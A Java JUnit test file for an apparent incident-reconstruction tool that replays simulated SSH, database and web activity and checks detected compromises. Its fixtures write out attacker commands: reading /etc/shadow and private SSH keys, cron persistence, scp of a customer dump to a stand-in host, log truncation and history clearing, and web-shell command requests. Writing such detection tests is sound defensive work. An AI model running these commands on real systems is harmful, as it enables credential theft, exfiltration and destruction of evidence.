package dwell.incident;

import static org.assertj.core.api.Assertions.assertThat;

import com.networknt.schema.InputFormat;
import dwell.event.Outcome;
import java.util.ArrayList;
import java.util.List;
import java.util.TreeSet;
import org.junit.jupiter.api.Test;

class ReconstructionTest {
  private static final String ATTACKER = "203.0.113.7";
  private static final String OFFICE = "198.51.100.5";
  private static final String[] NAMES = {
    "root", "admin", "oracle", "test", "ftp", "git", "nagios", "ops"
  };

  /** Two hosts with people who work there for a week. */
  static Story office() {
    Story story = new Story().address("10.1.0.10", "app1").address("10.1.0.20", "data1");
    for (int day = 1; day <= 6; day++) {
      story
          .ssh("app1", "erin", OFFICE, day + " 08:30:00")
          .byKey("SHA256:erin")
          .until(day + " 09:00:00")
          .types(day + " 08:31:00", "uptime");
      story
          .ssh("data1", "dana", OFFICE, day + " 10:00:00")
          .until(day + " 10:30:00")
          .types(day + " 10:01:00", "df -h");
      for (int hour = 10; hour < 24; hour += 4) {
        story
            .ssh("app1", "monitor", "10.1.0.5", day + " " + hour + ":00:00")
            .byKey("SHA256:monitor")
            .until(day + " " + hour + ":00:01")
            .types(day + " " + hour + ":00:00", "uptime");
        story
            .database("data1", "mysql", "shop", "10.1.0.10", day + " " + hour + ":10:00")
            .in("shop")
            .application()
            .until(day + " " + hour + ":10:05")
            .asks(day + " " + hour + ":10:01", "SELECT name FROM products WHERE id = 7", 1);
      }
    }
    return story;
  }

  private static void sound(Incident incident) {
    assertThat(
            IncidentJsonTest.schema().validate(IncidentJsonTest.json(incident), InputFormat.JSON))
        .isEmpty();
  }

  static void nothing(Incident incident) {
    sound(incident);
    assertThat(incident.verdict()).isNotEqualTo(Verdict.COMPROMISE);
    assertThat(incident.actors()).isEmpty();
    assertThat(incident.sessions()).isEmpty();
    assertThat(incident.data()).isEmpty();
    assertThat(incident.persistence()).isEmpty();
    assertThat(incident.tampering()).isEmpty();
    assertThat(incident.reentry()).isEmpty();
  }

  private static List<String> accounts(Incident incident) {
    TreeSet<String> out = new TreeSet<>();
    incident
        .actors()
        .forEach(
            a -> a.accounts().forEach(c -> out.add(c.name() + "@" + c.host() + " " + c.means())));
    return new ArrayList<>(out);
  }

  private static List<String> addresses(Incident incident) {
    return incident.actors().stream()
        .flatMap(a -> a.addresses().stream())
        .map(Incident.ActorAddress::ip)
        .sorted()
        .toList();
  }

  @Test
  void aQuietWeekIsNothing() {
    Incident incident = office().incident();
    nothing(incident);
    assertThat(incident.verdict()).isEqualTo(Verdict.NONE);
  }

  @Test
  void scannersAloneAreAnAttempt() {
    Story story = office();
    for (int i = 1; i < 40; i++) {
      story.fails("app1", "198.18.0." + i, "3 0" + i % 9 + ":00:00", 12, NAMES);
    }
    Incident incident = story.incident();
    nothing(incident);
    assertThat(incident.verdict()).isEqualTo(Verdict.ATTEMPT);
    assertThat(incident.background().addresses()).isEqualTo(39);
    assertThat(incident.background().attempts()).isEqualTo(39 * 12);
  }

  @Test
  void anAdminWhoMistypesIsNothing() {
    Story story = office();
    story
        .fails("app1", OFFICE, "7 08:20:00", 5, "erin")
        .ssh("app1", "erin", OFFICE, "7 08:30:00")
        .until("7 09:00:00")
        .types("7 08:31:00", "sudo systemctl restart nginx");
    nothing(story.incident());
  }

  @Test
  void anAdminOnTheRoadWhoMakesAnAccountIsNothing() {
    Story story = office();
    story.fails("app1", "192.0.2.77", "7 08:20:00", 3, "erin");
    story
        .ssh("app1", "erin", "192.0.2.77", "7 08:30:00")
        .byKey("SHA256:erin")
        .until("7 09:00:00")
        .types("7 08:31:00", "root", "sudo useradd -m -G sudo frank")
        .types(
            "7 08:32:00",
            "root",
            "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA frank' >> /home/frank/.ssh/authorized_keys");
    nothing(story.incident());
  }

  @Test
  void anOfficeBehindOneAddressIsNothing() {
    Story story = office();
    String[] people = {"p1", "p2", "p3", "p4", "p5", "p6", "p7", "p8"};
    story.fails("app1", "192.0.2.9", "7 07:00:00", 16, people);
    for (int i = 0; i < people.length; i++) {
      story
          .ssh("app1", people[i], "192.0.2.9", "7 08:0" + i + ":00")
          .until("7 09:00:00")
          .types("7 08:3" + i + ":00", "ls");
    }
    nothing(story.incident());
  }

  @Test
  void theNightlyDumpIsNothing() {
    Story story = office();
    for (int day = 1; day <= 6; day++) {
      story
          .ssh("data1", "backup", "10.1.0.5", day + " 02:00:00")
          .byKey("SHA256:backup")
          .until(day + " 02:10:00")
          .types(day + " 02:00:01", "mysqldump shop > /var/backups/shop.sql");
      story
          .database("data1", "mysql", "backup", "127.0.0.1", day + " 02:00:02")
          .in("shop")
          .until(day + " 02:09:00")
          .asks(day + " 02:00:03", "SELECT /*!40001 SQL_NO_CACHE */ * FROM `customers`", 9000);
    }
    nothing(story.incident());
  }

  private static Story guessed() {
    Story story = office();
    story.fails("app1", ATTACKER, "5 01:00:00", 40, NAMES);
    story.fails("app1", "203.0.113.8", "5 01:10:00", 10, NAMES);
    for (int i = 1; i < 30; i++) {
      story.fails("app1", "198.18.7." + i, "4 0" + i % 9 + ":00:00", 6, "root", "pi", "user");
    }
    Story.Stay first =
        story
            .ssh("app1", "ops", ATTACKER, "6 01:00:00")
            .killed("7 08:10:00")
            .types("6 01:01:00", "id")
            .types("6 01:02:00", "sudo -l")
            .types("6 01:03:00", "root", "cat /etc/shadow")
            .types("6 01:04:00", "root", "useradd -m -G sudo helpd")
            .types(
                "6 01:05:00",
                "root",
                "echo '*/5 * * * * root /usr/local/bin/x' > /etc/cron.d/helpd")
            .types("6 01:06:00", "root", "cat /home/erin/.ssh/id_rsa")
            .types("6 01:07:00", "root", "ssh -i /home/erin/.ssh/id_rsa dana@10.1.0.20");
    Story.Stay pivot =
        story
            .ssh("data1", "dana", "10.1.0.10", "6 01:07:02")
            .byKey("SHA256:erin")
            .from(first)
            .until("6 02:00:00")
            .types("6 01:08:00", "mysql -u shop -pxyz shop");
    story
        .database("data1", "mysql", "shop", "10.1.0.20", "6 01:08:01")
        .in("shop")
        .from(pivot)
        .until("6 01:30:00")
        .asks("6 01:09:00", "SHOW TABLES", 5)
        .asks("6 01:10:00", "SELECT * FROM customers", 5000)
        .asks("6 01:11:00", "SELECT * FROM vault", -1, Outcome.FAILURE);
    Story.Stay erin =
        story.ssh("app1", "erin", OFFICE, "7 08:00:00").byKey("SHA256:erin").until("7 09:00:00");
    erin.types("7 08:05:00", "grep " + ATTACKER + " /var/log/auth.log")
        .types("7 08:09:59", "sudo kill " + first.pid())
        .types("7 08:11:00", "sudo passwd -l ops");
    story.fails("app1", "203.0.113.8", "7 12:00:00", 1, "ops");
    story
        .ssh("app1", "helpd", "192.0.2.200", "7 20:00:00")
        .until("7 20:10:00")
        .types("7 20:01:00", "sudo whoami");
    return story;
  }

  @Test
  void guessingThatEndsInAnIntrusionIsFollowedToItsEnd() {
    Incident incident = guessed().incident();
    sound(incident);
    assertThat(incident.verdict()).isEqualTo(Verdict.COMPROMISE);
    assertThat(incident.actors()).hasSize(1);
    assertThat(addresses(incident)).containsExactly("192.0.2.200", ATTACKER, "203.0.113.8");
    assertThat(accounts(incident))
        .containsExactly(
            "dana@data1 stolen",
            "helpd@app1 created",
            "ops@app1 guessed",
            "root@app1 reached",
            "shop@data1 stolen");
    assertThat(incident.dwell().firstAccess()).hasToString("2026-03-06T01:00:00.000Z");
    assertThat(incident.dwell().firstContact()).hasToString("2026-03-05T01:00:00.000Z");
    assertThat(incident.dwell().detected()).hasToString("2026-03-07T08:05:00.000Z");
    assertThat(incident.dwell().evicted()).hasToString("2026-03-07T08:10:00.000Z");
    assertThat(incident.sessions())
        .extracting(s -> s.user() + "@" + s.host())
        .containsExactly("ops@app1", "dana@data1", "shop@data1", "helpd@app1");
    assertThat(incident.data()).extracting(Incident.Data::table).containsExactly("customers");
    assertThat(incident.persistence())
        .extracting(p -> p.kind().id())
        .contains("account", "group", "cron");
    assertThat(incident.exposedSecrets())
        .extracting(Incident.ExposedSecret::path)
        .containsExactly("/etc/shadow", "/home/erin/.ssh/id_rsa");
    assertThat(incident.reentry())
        .extracting(r -> r.ip() + " " + r.user() + " " + r.outcome())
        .containsExactly("203.0.113.8 ops failure", "192.0.2.200 helpd success");
    assertThat(incident.phases())
        .extracting(p -> p.phase().id())
        .contains(
            "reconnaissance",
            "initial-access",
            "privilege-escalation",
            "persistence",
            "credential-access",
            "lateral-movement",
            "collection",
            "detection",
            "eviction",
            "re-entry");
    assertThat(incident.background().addresses()).isEqualTo(29);
  }

  @Test
  void theSameStoryGivesTheSameBytes() {
    assertThat(IncidentJsonTest.json(guessed().incident()))
        .isEqualTo(IncidentJsonTest.json(guessed().incident()));
  }

  @Test
  void aStolenKeyNeedsNoGuessing() {
    Story story = office();
    story
        .ssh("app1", "erin", "203.0.113.50", "7 03:00:00")
        .byKey("SHA256:erin")
        .until("7 03:30:00")
        .types("7 03:01:00", "root", "sudo cat /etc/shadow")
        .types("7 03:02:00", "find / -name 'id_*'");
    story
        .ssh("app1", "erin", OFFICE, "7 08:30:00")
        .byKey("SHA256:erin")
        .until("7 09:00:00")
        .types("7 08:31:00", "uptime");
    Incident incident = story.incident();
    assertThat(accounts(incident)).contains("erin@app1 stolen");
    assertThat(addresses(incident)).containsExactly("203.0.113.50");
    assertThat(incident.sessions()).hasSize(1);
  }

  @Test
  void anInsiderWhoDumpsAndCoversTracks() {
    Story story = office();
    Story.Stay night =
        story
            .ssh("data1", "dana", OFFICE, "7 23:40:00")
            .until("8 00:30:00")
            .types("7 23:41:00", "mysqldump -u dana shop customers > /tmp/.c.sql")
            .types("7 23:50:00", "scp /tmp/.c.sql me@203.0.113.99:")
            .types("7 23:55:00", "history -c");
    story
        .database("data1", "mysql", "dana", "127.0.0.1", "7 23:41:01")
        .in("shop")
        .from(night)
        .until("7 23:42:00")
        .asks("7 23:41:02", "SELECT /*!40001 SQL_NO_CACHE */ * FROM `customers`", 5000);
    Incident incident = story.incident();
    sound(incident);
    assertThat(incident.origin()).isEqualTo(Origin.INTERNAL);
    assertThat(accounts(incident)).contains("dana@data1 insider");
    assertThat(incident.sessions()).hasSize(2);
    assertThat(incident.data()).extracting(Incident.Data::table).containsExactly("customers");
    assertThat(incident.tampering())
        .extracting(Incident.Tampering::path)
        .contains("/home/dana/.bash_history");
    assertThat(incident.exfiltration())
        .extracting(Incident.Exfiltration::to)
        .containsExactly("203.0.113.99");
    assertThat(incident.exfiltration())
        .extracting(Incident.Exfiltration::bytes)
        .containsExactly(4711L);
  }

  @Test
  void aClearedLogIsTampering() {
    Story story = office();
    story.fails("app1", ATTACKER, "5 01:00:00", 40, NAMES);
    story
        .ssh("app1", "ops", ATTACKER, "6 01:00:00")
        .until("6 02:00:00")
        .types("6 01:30:00", "root", "truncate -s 0 /var/log/auth.log; echo > /var/log/wtmp");
    Incident incident = story.incident();
    assertThat(incident.tampering())
        .extracting(Incident.Tampering::path)
        .containsExactlyInAnyOrder("/var/log/auth.log", "/var/log/wtmp");
    assertThat(incident.phases())
        .extracting(Incident.Phase::phase)
        .contains(PhaseName.DEFENSE_EVASION);
  }

  @Test
  void twoAttackersStayTwo() {
    Story story = office();
    story.fails("app1", ATTACKER, "5 01:00:00", 40, NAMES);
    story.ssh("app1", "ops", ATTACKER, "6 01:00:00").until("6 02:00:00").types("6 01:30:00", "id");
    story.fails(
        "app1", "192.0.2.40", "5 03:00:00", 40, "web", "www", "info", "sales", "guest", "temp");
    story
        .ssh("app1", "guest", "192.0.2.40", "6 05:00:00")
        .until("6 06:00:00")
        .types("6 05:30:00", "id");
    Incident incident = story.incident();
    assertThat(incident.actors()).hasSize(2);
    assertThat(addresses(incident)).containsExactly("192.0.2.40", ATTACKER);
  }

  @Test
  void aWebShellIsFoundByItsUse() {
    Story story = office();
    for (int i = 1; i < 20; i++) {
      story.request(
          "app1", "198.18.1." + i, "5 10:00:0" + i % 9, "GET", "/index.php?q=find+me", 200);
    }
    story.request("app1", ATTACKER, "5 12:00:00", "POST", "/upload.php", 200);
    story.request("app1", ATTACKER, "5 12:01:00", "GET", "/uploads/a.php?c=id", 200);
    story.request(
        "app1", ATTACKER, "5 12:02:00", "GET", "/uploads/a.php?c=cat+/var/www/app/config.php", 200);
    Incident incident = story.incident();
    sound(incident);
    assertThat(addresses(incident)).containsExactly(ATTACKER);
    assertThat(accounts(incident)).containsExactly("www-data@app1 reached");
    assertThat(incident.persistence())
        .extracting(Incident.Persistence::path)
        .containsExactly("/uploads/a.php");
    assertThat(incident.exposedSecrets())
        .extracting(Incident.ExposedSecret::path)
        .containsExactly("/var/www/app/config.php");
    assertThat(incident.sessions()).extracting(s -> s.commands().size()).containsExactly(2);
  }

  @Test
  void everyCitedEventExists() {
    Story story = guessed();
    Incident incident = story.incident();
    List<String> cited = new ArrayList<>();
    incident.phases().forEach(p -> cited.addAll(p.evidence()));
    incident.answers().forEach(a -> cited.addAll(a.evidence()));
    incident.sessions().forEach(s -> cited.addAll(s.evidence()));
    incident.persistence().forEach(p -> cited.addAll(p.evidence()));
    incident.reentry().forEach(r -> cited.addAll(r.evidence()));
    incident.actors().forEach(a -> a.addresses().forEach(d -> cited.addAll(d.evidence())));
    assertThat(cited).isNotEmpty().allSatisfy(id -> assertThat(story.byId(id)).isNotNull());
  }

  @Test
  void aScriptAmongUploadsThatTakesItsOrdersInTheBody() {
    Story story = office();
    story.request("app1", ATTACKER, "5 12:00:00", "POST", "/upload.php", 200);
    story.request("app1", ATTACKER, "5 12:01:00", "POST", "/uploads/a.php", 200);
    Incident incident = story.incident();
    sound(incident);
    assertThat(incident.verdict()).isEqualTo(Verdict.COMPROMISE);
    assertThat(incident.persistence())
        .extracting(Incident.Persistence::path)
        .containsExactly("/uploads/a.php");
  }

  @Test
  void aSiteWhoseVisitorsUploadAndSearchIsNothing() {
    Story story = office();
    for (int i = 1; i < 9; i++) {
      String visitor = "198.18.1." + i;
      story.request("app1", visitor, "5 10:00:0" + i, "POST", "/upload.php", 200);
      story.request("app1", visitor, "5 10:01:0" + i, "GET", "/images/thumb.php?id=" + i, 200);
      story.request("app1", visitor, "5 10:02:0" + i, "GET", "/search.php?q=find+-name", 200);
      story.request("app1", visitor, "5 10:02:0" + i, "GET", "/search.php?q=shoes", 200);
      story.request("app1", "198.18.2." + i, "5 11:02:0" + i, "GET", "/search.php?q=hats", 200);
    }
    nothing(story.incident());
  }

  @Test
  void aStolenKeyUsedQuietlyFirstAndInEarnestTheNextDay() {
    Story story = office();
    story
        .ssh("app1", "erin", "203.0.113.50", "6 22:00:00")
        .byKey("SHA256:erin")
        .until("6 22:05:00")
        .types("6 22:01:00", "id");
    story
        .ssh("app1", "erin", "203.0.113.50", "7 03:00:00")
        .byKey("SHA256:erin")
        .until("7 03:30:00")
        .types("7 03:01:00", "root", "sudo cat /etc/shadow")
        .types("7 03:02:00", "find / -name 'id_*'");
    Incident incident = story.incident();
    assertThat(incident.sessions()).hasSize(2);
    assertThat(incident.dwell().firstAccess()).hasToString("2026-03-06T22:00:00.000Z");
    assertThat(incident.origin()).isEqualTo(Origin.EXTERNAL);
    assertThat(incident.actors().getFirst().addresses().getFirst().against()).isEmpty();
  }

  @Test
  void aScannerOfOursThatThenUsesItsKeyIsNothing() {
    Story story = office();
    story.fails("app1", "10.1.0.77", "3 01:00:00", 24, NAMES);
    story
        .ssh("app1", "audit", "10.1.0.77", "3 02:00:00")
        .byKey("SHA256:audit")
        .until("3 02:10:00")
        .types("3 02:01:00", "uname -a");
    nothing(story.incident());
  }

  @Test
  void aForgottenPasswordOnTheRoadIsNothing() {
    Story story = office();
    story.fails("app1", "192.0.2.77", "7 08:00:00", 14, "erin");
    story
        .ssh("app1", "erin", "192.0.2.77", "7 08:30:00")
        .until("7 09:00:00")
        .types("7 08:31:00", "uptime");
    nothing(story.incident());
  }

  @Test
  void aCopyForANewOfficeByItsAdminIsNothing() {
    Story story = office();
    story
        .ssh("data1", "dana", OFFICE, "7 10:00:00")
        .until("7 11:00:00")
        .types("7 10:05:00", "mysqldump shop customers > /tmp/move.sql")
        .types("7 10:15:00", "scp /tmp/move.sql dana@198.51.100.9:");
    nothing(story.incident());
  }

  @Test
  void theApplicationsAccountUsedByHandFromWhereTheActorWas() {
    Story story = office();
    story.fails("app1", ATTACKER, "5 01:00:00", 40, NAMES);
    story.ssh("app1", "ops", ATTACKER, "6 01:00:00").until("6 03:00:00");
    story
        .database("data1", "mysql", "shop", "10.1.0.10", "6 01:30:00")
        .application()
        .in("shop")
        .until("6 01:40:00")
        .asks("6 01:31:00", "SHOW TABLES", 4)
        .asks("6 01:32:00", "SELECT * FROM customers", 900);
    Incident incident = story.incident();
    assertThat(accounts(incident)).contains("shop@data1 stolen");
    assertThat(incident.data()).extracting(Incident.Data::table).containsExactly("customers");
    assertThat(incident.sessions()).hasSize(2);
  }

  @Test
  void guessingIsAmongTheDetections() {
    assertThat(guessed().incident().detections())
        .extracting(Incident.Finding::id)
        .contains("password-guessed", "account-created", "password-file-read");
  }
}
